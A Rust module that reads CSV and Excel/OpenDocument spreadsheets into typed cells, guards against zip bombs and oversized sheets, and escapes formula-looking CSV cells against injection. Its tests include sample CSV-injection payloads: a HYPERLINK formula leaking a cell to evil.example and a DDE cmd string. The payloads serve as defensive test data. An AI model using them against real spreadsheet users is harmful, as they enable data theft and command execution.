//! A spreadsheet read into a grid of cells, whatever file it came from
//! (CSV through the `csv` crate; .xlsx, .xls and .ods through `calamine`),
//! with the name a person would give each cell (`rundown.xlsx:Sheet1!C7`).

use std::borrow::Cow;
use std::path::Path;

use crate::text::inert;
use calamine::{Data, DataRef, Reader, Sheets};
use chrono::{NaiveDate, NaiveDateTime, NaiveTime, TimeDelta};

/// One cell, as typed as its file says. Spreadsheet times carry no zone:
/// none of these is an instant until a zone is chosen.
#[derive(Debug, Clone, PartialEq)]
pub enum Cell {
    Empty,
    Text(String),
    Number(f64),
    Bool(bool),
    /// A cell formatted as a time of day or a duration (`9:00`, `[h]:mm`):
    /// the time since midnight, or the length.
    Clock(TimeDelta),
    /// A cell holding a date and maybe a time of day.
    DateTime(NaiveDateTime),
    /// A formula error such as `#REF!`.
    Error(String),
}

impl Cell {
    pub fn is_empty(&self) -> bool {
        match self {
            Cell::Empty => true,
            Cell::Text(text) => text.trim().is_empty(),
            _ => false,
        }
    }

    /// The cell as the person sees it, for messages: text in quotes.
    pub fn shown(&self) -> String {
        match self {
            Cell::Empty => "an empty cell".into(),
            Cell::Text(text) => format!("{:?}", text.trim()),
            Cell::Number(n) => n.to_string(),
            Cell::Bool(b) => b.to_string().to_uppercase(),
            Cell::Clock(delta) => {
                let s = delta.num_seconds();
                format!("{}:{:02}:{:02}", s / 3600, s / 60 % 60, s % 60)
            }
            Cell::DateTime(at) => at.format("%Y-%m-%d %H:%M:%S").to_string(),
            Cell::Error(e) => e.clone(),
        }
    }

    /// The cell's text, trimmed; numbers and the like as they would show.
    pub fn text(&self) -> String {
        match self {
            Cell::Empty => String::new(),
            Cell::Text(text) => text.trim().to_string(),
            other => other.shown(),
        }
    }
}

/// A sheet: its rows of cells, and where its first cell sits.
pub struct Sheet {
    /// `rundown.xlsx:Sheet1!` or `rundown.csv:`: what goes before a cell's name.
    prefix: String,
    /// The sheet's name, or the file's stem for a CSV file.
    pub name: String,
    pub rows: Vec<Vec<Cell>>,
    /// Row and column (0-based) of `rows[0][0]` in the sheet.
    origin: (usize, usize),
}

impl Sheet {
    /// `rundown.xlsx:Sheet1!C7` for the cell at `rows[row][column]`.
    pub fn cell_name(&self, row: usize, column: usize) -> String {
        format!("{}{}", self.prefix, self.short_name(row, column))
    }

    /// `C7`: the cell's name within its sheet.
    pub fn short_name(&self, row: usize, column: usize) -> String {
        format!(
            "{}{}",
            column_letters(self.origin.1 + column),
            self.origin.0 + row + 1
        )
    }

    /// `rundown.xlsx:Sheet1` (or `rundown.csv`): the sheet as a whole.
    pub fn whole(&self) -> String {
        self.prefix.trim_end_matches(['!', ':']).to_string()
    }

    /// The column's letters as the sheet shows them (`C`).
    pub fn column_name(&self, column: usize) -> String {
        column_letters(self.origin.1 + column)
    }

    pub fn cell(&self, row: usize, column: usize) -> &Cell {
        self.rows
            .get(row)
            .and_then(|cells| cells.get(column))
            .unwrap_or(&Cell::Empty)
    }
}

/// `A`, ..., `Z`, `AA`, ...: a 0-based column index as spreadsheets name it.
pub fn column_letters(mut column: usize) -> String {
    let mut letters = Vec::new();
    loop {
        letters.push(b'A' + (column % 26) as u8);
        if column < 26 {
            break;
        }
        column = column / 26 - 1;
    }
    letters.reverse();
    String::from_utf8(letters).unwrap_or_default()
}

/// The first characters that make a spreadsheet read a cell as a formula
/// (OWASP, "CSV Injection").
const FORMULA_STARTS: [char; 6] = ['=', '+', '-', '@', '\t', '\r'];

/// Whether a spreadsheet would run `text`, or it is such a text already
/// given its `'` (any number of them: each export adds exactly one).
fn looks_like_formula(text: &str) -> bool {
    text.trim_start_matches('\'').starts_with(FORMULA_STARTS)
}

/// A CSV cell a spreadsheet shows as text and never runs, as OWASP advises:
/// a `'` in front of a formula-looking text. [`read_csv`] takes it away again.
pub fn formula_shown_as_text(text: &str) -> Cow<'_, str> {
    if looks_like_formula(text) {
        Cow::Owned(format!("'{text}"))
    } else {
        Cow::Borrowed(text)
    }
}

/// The text [`formula_shown_as_text`] was given.
fn formula_text(text: &str) -> &str {
    match text.strip_prefix('\'') {
        Some(rest) if looks_like_formula(rest) => rest,
        _ => text,
    }
}

/// Reads the sheet `sheet` (default: the first) of a .csv, .xlsx, .xls or
/// .ods file. The error is one line for the user.
pub fn read(path: &Path, sheet: Option<&str>) -> Result<Sheet, String> {
    let file = path.display().to_string();
    let extension = path
        .extension()
        .and_then(|e| e.to_str())
        .unwrap_or_default()
        .to_ascii_lowercase();
    match extension.as_str() {
        "csv" | "tsv" | "txt" => {
            if let Some(name) = sheet {
                return Err(format!(
                    "{file}: a CSV file has no sheets (--sheet {name:?}): leave out --sheet"
                ));
            }
            read_csv(path, &file)
        }
        "xlsx" | "xlsm" | "xlsb" | "xls" | "ods" => read_workbook(path, &file, sheet),
        _ => Err(format!(
            "{file}: cannot tell what kind of spreadsheet this is: give a .csv, .xlsx, .xls or .ods file"
        )),
    }
}

/// The largest sheet file read, of any kind: no larger than an agenda may
/// be (a real rundown is a few hundred kilobytes).
pub const FILE_LIMIT: u64 = crate::agenda::FILE_LIMIT;
/// The rows and columns a sheet may use: row 20,000 and column BL.
pub const ROW_LIMIT: u32 = 20_000;
pub const COLUMN_LIMIT: u32 = 64;
/// All the text in a sheet's cells together, in bytes (a shared string
/// counts in every cell that shows it).
pub const TEXT_LIMIT: usize = 32 * 1024 * 1024;
/// A workbook's parts unpacked (its XML): each part, and all of them.
pub const PART_LIMIT: u64 = 16 * 1024 * 1024;
pub const UNPACKED_LIMIT: u64 = 64 * 1024 * 1024;
/// The parts a workbook may have (a real one has a few dozen).
const PARTS_LIMIT: usize = 10_000;

const MB: u64 = 1024 * 1024;

/// The cells of a sheet as they are read, each checked against the limits
/// before it is kept: nothing the file says makes this allocate more.
struct Cells<'a> {
    /// What goes before a cell's name in a message.
    prefix: &'a str,
    cells: Vec<(u32, u32, Cell)>,
    text: usize,
}

impl<'a> Cells<'a> {
    fn new(prefix: &'a str) -> Self {
        Self {
            prefix,
            cells: Vec::new(),
            text: 0,
        }
    }

    fn put(&mut self, (row, column): (u32, u32), cell: Cell) -> Result<(), String> {
        if cell == Cell::Empty {
            return Ok(());
        }
        if row >= ROW_LIMIT || column >= COLUMN_LIMIT {
            return Err(format!(
                "{}{}{}: this cell is beyond the {ROW_LIMIT} rows and {COLUMN_LIMIT} columns (A to {}) \
                 a rundown sheet may use: clear it (and anything else that far out), or read another sheet",
                self.prefix,
                column_letters(column as usize),
                u64::from(row) + 1,
                column_letters(COLUMN_LIMIT as usize - 1),
            ));
        }
        if let Cell::Text(text) | Cell::Error(text) = &cell {
            self.text += text.len();
            if self.text > TEXT_LIMIT {
                return Err(format!(
                    "{}{}{}: the sheet's cells hold more than {} MB of text by here: \
                     a rundown holds far less; check that this is the right sheet",
                    self.prefix,
                    column_letters(column as usize),
                    row + 1,
                    TEXT_LIMIT as u64 / MB
                ));
            }
        }
        self.cells.push((row, column, cell));
        Ok(())
    }

    /// The rows from `origin`, or from the first row and column used (as
    /// a workbook's range starts); each row as long as its last cell.
    fn into_sheet(self, name: String, origin: Option<(u32, u32)>) -> Sheet {
        let (top, left) = origin.unwrap_or_else(|| {
            let top = self.cells.iter().map(|c| c.0).min().unwrap_or(0);
            let left = self.cells.iter().map(|c| c.1).min().unwrap_or(0);
            (top, left)
        });
        let mut rows: Vec<Vec<Cell>> = Vec::new();
        for (row, column, cell) in self.cells {
            let (row, column) = ((row - top) as usize, (column - left) as usize);
            if rows.len() <= row {
                rows.resize_with(row + 1, Vec::new);
            }
            let cells = &mut rows[row];
            if cells.len() <= column {
                cells.resize(column + 1, Cell::Empty);
            }
            cells[column] = cell;
        }
        Sheet {
            prefix: self.prefix.to_string(),
            name,
            rows,
            origin: (top as usize, left as usize),
        }
    }
}

/// The file's bytes, or why not: at most [`FILE_LIMIT`] of them.
fn read_bounded(path: &Path, file: &str) -> Result<Vec<u8>, String> {
    let cannot = |e: std::io::Error| format!("{file}: cannot read the file: {e}");
    let too_big = || {
        format!(
            "{file}: the file is larger than the {} MB a rundown sheet may be: \
             check that it is the right file",
            FILE_LIMIT / MB
        )
    };
    let handle = std::fs::File::open(path).map_err(cannot)?;
    if handle.metadata().map_err(cannot)?.len() > FILE_LIMIT {
        return Err(too_big());
    }
    let mut bytes = Vec::new();
    std::io::Read::read_to_end(&mut std::io::Read::take(handle, FILE_LIMIT + 1), &mut bytes)
        .map_err(cannot)?;
    if bytes.len() as u64 > FILE_LIMIT {
        return Err(too_big());
    }
    Ok(bytes)
}

fn read_csv(path: &Path, file: &str) -> Result<Sheet, String> {
    let bytes = read_bounded(path, file)?;
    let bytes = bytes.strip_prefix(b"\xEF\xBB\xBF").unwrap_or(&bytes);
    let text = std::str::from_utf8(bytes).map_err(|e| {
        format!(
            "{file}: byte {} is not UTF-8: export the sheet as CSV in UTF-8 \
             (Google Sheets does; in Excel choose \"CSV UTF-8\")",
            e.valid_up_to() + 1
        )
    })?;
    // Excel in much of Europe writes `;`-separated CSV; tab for .tsv.
    let first_line = text.lines().next().unwrap_or_default();
    let delimiter = [b',', b';', b'\t']
        .into_iter()
        .max_by_key(|d| first_line.bytes().filter(|b| b == d).count())
        .filter(|d| first_line.bytes().any(|b| b == *d))
        .unwrap_or(b',');
    let mut reader = csv::ReaderBuilder::new()
        .has_headers(false)
        .flexible(true)
        .delimiter(delimiter)
        .from_reader(text.as_bytes());
    let prefix = format!("{file}:");
    let mut cells = Cells::new(&prefix);
    for (row, record) in reader.records().enumerate() {
        let record = record.map_err(|e| {
            let line = e.position().map_or(0, |p| p.line());
            format!("{file}:{line}: this is not valid CSV: {e}")
        })?;
        for (column, text) in record.iter().enumerate() {
            if !text.trim().is_empty() {
                let at = (clamped(row), clamped(column));
                cells.put(at, Cell::Text(formula_text(text).to_string()))?;
            }
        }
    }
    let name = path
        .file_stem()
        .map(|s| s.to_string_lossy().into_owned())
        .unwrap_or_default();
    Ok(cells.into_sheet(name, Some((0, 0))))
}

fn clamped(index: usize) -> u32 {
    u32::try_from(index).unwrap_or(u32::MAX)
}

/// A workbook's parts unpacked (read, not trusted from the zip's header)
/// within [`PART_LIMIT`] each and [`UNPACKED_LIMIT`] in all, before calamine
/// opens it: a small file that unpacks to gigabytes is refused here.
fn check_unpacked(bytes: &[u8], file: &str) -> Result<(), String> {
    let broken = |e: zip::result::ZipError| format!("{file}: cannot read the workbook: {e}");
    let mut archive = zip::ZipArchive::new(std::io::Cursor::new(bytes)).map_err(broken)?;
    if archive.len() > PARTS_LIMIT {
        return Err(format!(
            "{file}: the workbook has {} parts, more than the {PARTS_LIMIT} a spreadsheet file has: \
             save it again from the spreadsheet",
            archive.len()
        ));
    }
    let mut total = 0;
    for index in 0..archive.len() {
        let mut part = archive.by_index(index).map_err(broken)?;
        let name = part.name().map(|n| inert(&n)).unwrap_or_default();
        let unpacked = std::io::copy(
            &mut std::io::Read::take(&mut part, PART_LIMIT + 1),
            &mut std::io::sink(),
        )
        .map_err(|e| format!("{file}: cannot read the workbook's {name}: {e}"))?;
        if unpacked > PART_LIMIT {
            return Err(format!(
                "{file}: the workbook's {name} unpacks to more than {} MB: a rundown's is a few \
                 hundred kilobytes; save the sheet again, or export it as CSV",
                PART_LIMIT / MB
            ));
        }
        total += unpacked;
        if total > UNPACKED_LIMIT {
            return Err(format!(
                "{file}: the workbook unpacks to more than {} MB: a rundown's is far smaller; \
                 save the sheet again, or export it as CSV",
                UNPACKED_LIMIT / MB
            ));
        }
    }
    Ok(())
}

/// Where an OpenDocument sheet's cells reach, counting the repeated rows and
/// columns calamine will expand: every table's, since calamine reads them
/// all when it opens the file.
fn check_ods_extent(bytes: &[u8], file: &str) -> Result<(), String> {
    use quick_xml::events::{BytesStart, Event};
    let broken = |e: String| format!("{file}: cannot read the workbook: {e}");
    let mut archive =
        zip::ZipArchive::new(std::io::Cursor::new(bytes)).map_err(|e| broken(e.to_string()))?;
    let Ok(content) = archive.by_name("content.xml") else {
        return Ok(()); // not an OpenDocument file
    };
    let mut reader = quick_xml::Reader::from_reader(std::io::BufReader::new(content));
    let repeats = |e: &BytesStart<'_>, key: &str| -> u64 {
        e.try_get_attribute(key)
            .ok()
            .flatten()
            .and_then(|a| a.value.trim().parse().ok())
            .unwrap_or(1)
    };
    let has = |e: &BytesStart<'_>, key: &str| e.try_get_attribute(key).ok().flatten().is_some();
    let (mut table, mut row, mut column) = (String::new(), 0u64, 0u64);
    // The repeats of the row being read, and its first used column.
    let (mut row_repeats, mut row_used) = (1u64, None);
    let mut buf = Vec::new();
    loop {
        let event = reader
            .read_event_into(&mut buf)
            .map_err(|e| broken(e.to_string()))?;
        let (e, closed) = match &event {
            Event::Start(e) => (e, false),
            Event::Empty(e) => (e, true),
            Event::End(e) if e.name().into_inner() == "table:table-row" => {
                if let Some(first) = row_used
                    && row + row_repeats > u64::from(ROW_LIMIT)
                {
                    return Err(beyond(file, &table, row.max(ROW_LIMIT.into()), first));
                }
                row += row_repeats;
                buf.clear();
                continue;
            }
            Event::Eof => return Ok(()),
            _ => {
                buf.clear();
                continue;
            }
        };
        match e.name().into_inner() {
            "table:table" => {
                table = e
                    .try_get_attribute("table:name")
                    .ok()
                    .flatten()
                    .and_then(|a| Some(quick_xml::escape::unescape(&a.value).ok()?.into_owned()))
                    .unwrap_or_default();
                row = 0;
            }
            "table:table-row" => {
                row_repeats = repeats(e, "table:number-rows-repeated");
                (column, row_used) = (0, None);
                if closed {
                    row += row_repeats;
                }
            }
            "table:table-cell" | "table:covered-table-cell" => {
                let count = repeats(e, "table:number-columns-repeated");
                // As calamine reads it: a cell with no value type and no
                // formula is empty, whatever it contains.
                if has(e, "office:value-type") || has(e, "table:formula") {
                    row_used = row_used.or(Some(column));
                    if column + count > u64::from(COLUMN_LIMIT) {
                        return Err(beyond(file, &table, row, column.max(COLUMN_LIMIT.into())));
                    }
                }
                column += count;
            }
            _ => {}
        }
        buf.clear();
    }
}

/// The workbook in `bytes`, read as its extension says (as calamine's
/// `open_workbook_auto` does, but from memory).
fn open<'b>(bytes: &'b [u8], path: &Path) -> Result<Sheets<std::io::Cursor<&'b [u8]>>, String> {
    use calamine::open_workbook_from_rs as from;
    let data = std::io::Cursor::new(bytes);
    let extension = path
        .extension()
        .and_then(|e| e.to_str())
        .unwrap_or_default()
        .to_ascii_lowercase();
    let text = |e: &dyn std::fmt::Display| e.to_string();
    match extension.as_str() {
        "xls" => from(data).map(Sheets::Xls).map_err(|e| text(&e)),
        "xlsb" => from(data).map(Sheets::Xlsb).map_err(|e| text(&e)),
        "ods" => from(data).map(Sheets::Ods).map_err(|e| text(&e)),
        _ => from(data).map(Sheets::Xlsx).map_err(|e| text(&e)),
    }
}

/// The message for a cell past the limits, named as [`Cells::put`] names it.
fn beyond(file: &str, table: &str, row: u64, column: u64) -> String {
    let prefix = format!("{file}:{}!", quoted_sheet(table));
    let mut cells = Cells::new(&prefix);
    let at = (
        u32::try_from(row).unwrap_or(u32::MAX),
        u32::try_from(column).unwrap_or(u32::MAX),
    );
    cells
        .put(at, Cell::Bool(true))
        .err()
        .unwrap_or_else(|| format!("{prefix}: too large"))
}

fn quoted_sheet(name: &str) -> String {
    if name.chars().all(|c| c.is_alphanumeric() || c == '_') {
        name.to_string()
    } else {
        format!("'{}'", name.replace('\'', "''"))
    }
}

fn read_workbook(path: &Path, file: &str, wanted: Option<&str>) -> Result<Sheet, String> {
    let bytes = read_bounded(path, file)?;
    // .xlsx, .xlsb and .ods are zip files, whatever their names say.
    if bytes.starts_with(b"PK") {
        check_unpacked(&bytes, file)?;
        check_ods_extent(&bytes, file)?;
    }
    let mut workbook =
        open(&bytes, path).map_err(|e| format!("{file}: cannot read the workbook: {e}"))?;
    let names = workbook.sheet_names();
    let name = match wanted {
        Some(wanted) => names
            .iter()
            .find(|n| n.as_str() == wanted)
            .or_else(|| names.iter().find(|n| n.eq_ignore_ascii_case(wanted)))
            .cloned()
            .ok_or_else(|| {
                let hint = match crate::agenda::nearest(wanted, names.iter().map(String::as_str)) {
                    Some(near) => format!("did you mean {near:?}?"),
                    None => format!("its sheets are {}", quoted_list(&names)),
                };
                format!("{file}: there is no sheet {wanted:?}: {hint}")
            })?,
        None => names
            .first()
            .cloned()
            .ok_or_else(|| format!("{file}: the workbook has no sheets"))?,
    };
    let prefix = format!("{file}:{}!", quoted_sheet(&name));
    let cannot = |e: &dyn std::fmt::Display| format!("{file}: cannot read sheet {name:?}: {e}");
    let mut cells = Cells::new(&prefix);
    // .xlsx and .xlsb cells one at a time, never a range as large as the
    // farthest cell; .ods is bounded above, .xls by its format (65,536 rows,
    // 256 columns).
    match &mut workbook {
        Sheets::Xlsx(xlsx) => {
            let mut reader = xlsx.worksheet_cells_reader(&name).map_err(|e| cannot(&e))?;
            while let Some(cell) = reader.next_cell().map_err(|e| cannot(&e))? {
                cells.put(cell.get_position(), cell_of_ref(cell.get_value()))?;
            }
        }
        Sheets::Xlsb(xlsb) => {
            let mut reader = xlsb.worksheet_cells_reader(&name).map_err(|e| cannot(&e))?;
            while let Some(cell) = reader.next_cell().map_err(|e| cannot(&e))? {
                cells.put(cell.get_position(), cell_of_ref(cell.get_value()))?;
            }
        }
        other => {
            let range = other.worksheet_range(&name).map_err(|e| cannot(&e))?;
            let (top, left) = range.start().unwrap_or((0, 0));
            for (row, column, data) in range.used_cells() {
                let at = (top + clamped(row), left + clamped(column));
                cells.put(at, cell_of(data.clone()))?;
            }
        }
    }
    Ok(cells.into_sheet(name, None))
}

fn quoted_list(names: &[String]) -> String {
    names
        .iter()
        .map(|n| format!("{n:?}"))
        .collect::<Vec<_>>()
        .join(", ")
}

const MS_PER_DAY: f64 = 86_400_000.0;

/// A streamed cell: its text copied once, the rest as [`cell_of`] reads it.
fn cell_of_ref(data: &DataRef<'_>) -> Cell {
    match data {
        DataRef::SharedString(text) => cell_of(Data::String(text.to_string())),
        other => cell_of(Data::from(other.clone())),
    }
}

fn cell_of(data: Data) -> Cell {
    match data {
        Data::Empty => Cell::Empty,
        Data::String(text) if text.trim().is_empty() => Cell::Empty,
        Data::String(text) => Cell::Text(text),
        Data::Int(n) => Cell::Number(n as f64),
        Data::Float(n) => Cell::Number(n),
        Data::Bool(b) => Cell::Bool(b),
        Data::Error(e) => Cell::Error(e.to_string()),
        Data::DateTime(at) => {
            let serial = at.as_f64();
            // A time of day is stored as the fraction of a day, with no
            // date (serial 0): it is no date-time of 1899.
            if at.is_duration() || (0.0..1.0).contains(&serial) {
                Cell::Clock(TimeDelta::milliseconds((serial * MS_PER_DAY).round() as i64))
            } else {
                match at.as_datetime() {
                    Some(at) => Cell::DateTime(at),
                    None => Cell::Error(format!("date serial {serial}")),
                }
            }
        }
        Data::DateTimeIso(text) => iso_date_time(&text).unwrap_or(Cell::Text(text)),
        Data::DurationIso(text) => iso_duration(&text).map_or(Cell::Text(text), Cell::Clock),
    }
}

/// An OpenDocument date or date-time value (`2022-06-01`, `2022-06-01T09:00:00`).
fn iso_date_time(text: &str) -> Option<Cell> {
    if let Ok(date) = NaiveDate::parse_from_str(text, "%Y-%m-%d") {
        return Some(Cell::DateTime(date.and_time(NaiveTime::MIN)));
    }
    [
        "%Y-%m-%dT%H:%M:%S%.f",
        "%Y-%m-%dT%H:%M:%S",
        "%Y-%m-%dT%H:%M",
    ]
    .iter()
    .find_map(|format| NaiveDateTime::parse_from_str(text, format).ok())
    .map(Cell::DateTime)
}

/// An OpenDocument time value, an ISO 8601 duration such as `PT09H30M00S`.
fn iso_duration(text: &str) -> Option<TimeDelta> {
    let rest = text.strip_prefix("PT")?;
    let mut total = 0.0;
    let mut number = String::new();
    for c in rest.chars() {
        match c {
            '0'..='9' | '.' => number.push(c),
            'H' | 'M' | 'S' => {
                let value: f64 = number.parse().ok()?;
                total += value
                    * match c {
                        'H' => 3600.0,
                        'M' => 60.0,
                        _ => 1.0,
                    };
                number.clear();
            }
            _ => return None,
        }
    }
    number
        .is_empty()
        .then(|| TimeDelta::milliseconds((total * 1000.0).round() as i64))
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn columns_are_lettered_like_a_spreadsheet() {
        assert_eq!(column_letters(0), "A");
        assert_eq!(column_letters(25), "Z");
        assert_eq!(column_letters(26), "AA");
        assert_eq!(column_letters(27), "AB");
        assert_eq!(column_letters(701), "ZZ");
        assert_eq!(column_letters(702), "AAA");
    }

    #[test]
    fn a_formula_is_written_as_text_and_read_back_as_it_was() {
        for text in [
            "=HYPERLINK(\"http://evil.example/?leak=\"&A1)",
            "@SUM(1+1)*cmd|' /C calc'!A0",
            "+1",
            "-5 minutes",
            "\tTab",
            "\rCR",
            "'=already quoted",
            "''@twice",
        ] {
            let written = formula_shown_as_text(text);
            assert!(written.starts_with('\''), "{text:?} is shown as text");
            assert_eq!(formula_text(&written), text);
        }
        for text in ["Welcome", "'Tis the season", "09:00", "Q&A"] {
            assert_eq!(formula_shown_as_text(text), text);
            assert_eq!(formula_text(text), text);
        }
    }

    #[test]
    fn opendocument_times_are_durations_since_midnight() {
        assert_eq!(iso_duration("PT09H30M00S"), Some(TimeDelta::minutes(570)));
        assert_eq!(
            iso_duration("PT00H10M30.5S"),
            Some(TimeDelta::milliseconds(630_500))
        );
        assert_eq!(iso_duration("P1D"), None);
        assert_eq!(
            iso_date_time("2022-06-01T09:00:00"),
            Some(Cell::DateTime(
                NaiveDate::from_ymd_opt(2022, 6, 1)
                    .unwrap()
                    .and_hms_opt(9, 0, 0)
                    .unwrap()
            ))
        );
    }
}
